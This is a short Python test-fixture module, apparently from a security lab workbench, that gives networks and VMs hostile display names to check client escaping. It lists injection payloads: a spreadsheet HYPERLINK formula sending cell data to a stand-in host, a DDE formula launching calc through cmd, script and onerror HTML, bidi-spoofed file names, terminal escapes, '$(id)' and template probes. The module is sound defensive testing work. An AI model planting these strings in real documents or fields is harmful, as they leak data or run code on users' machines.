# SPDX-License-Identifier: Apache-2.0
"""Display texts that a client must escape wherever it shows or stores them: `lab up --hostile-names`."""

from __future__ import annotations

from collections.abc import Sequence
from itertools import cycle

from csworkbench.lab.records import Network

TEXTS = (
    '=HYPERLINK("http://203.0.113.10/?"&A1,"click")',
    "<script>alert(1)</script><img src=x onerror=alert(2)>",
    "[red]x[/] [link=http://203.0.113.10]y[/link] [/nothing]",
    "db\u202etxt.exe \u2066isolated\u2069 \u200f",
    "bell\a back\b escape\x1b[2J\x1b]0;title\a \x9b31m null-ish\x7f",
    "two\r\nlines\tand, \"quotes\"; 'more' | pipe `tick` $(id)",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "e\u0301\u0302\u0303 ﷽ 👩‍👩‍👧‍👦 한글 \ufeff",
    "{{7*7}} ${7*7} %s %n {0}",
    "L" * 255,
)
"""Formulas, HTML, Rich markup, bidirectional and control characters, line ends, wide signs, templates, full length."""


def rename(networks: Sequence[Network]) -> None:
    """Give networks and VMs these display texts in turn; their names stay valid."""
    texts = cycle(TEXTS)
    for network in networks:
        network.display_text = next(texts)
        for vm in network.vms:
            vm.display_name = next(texts)
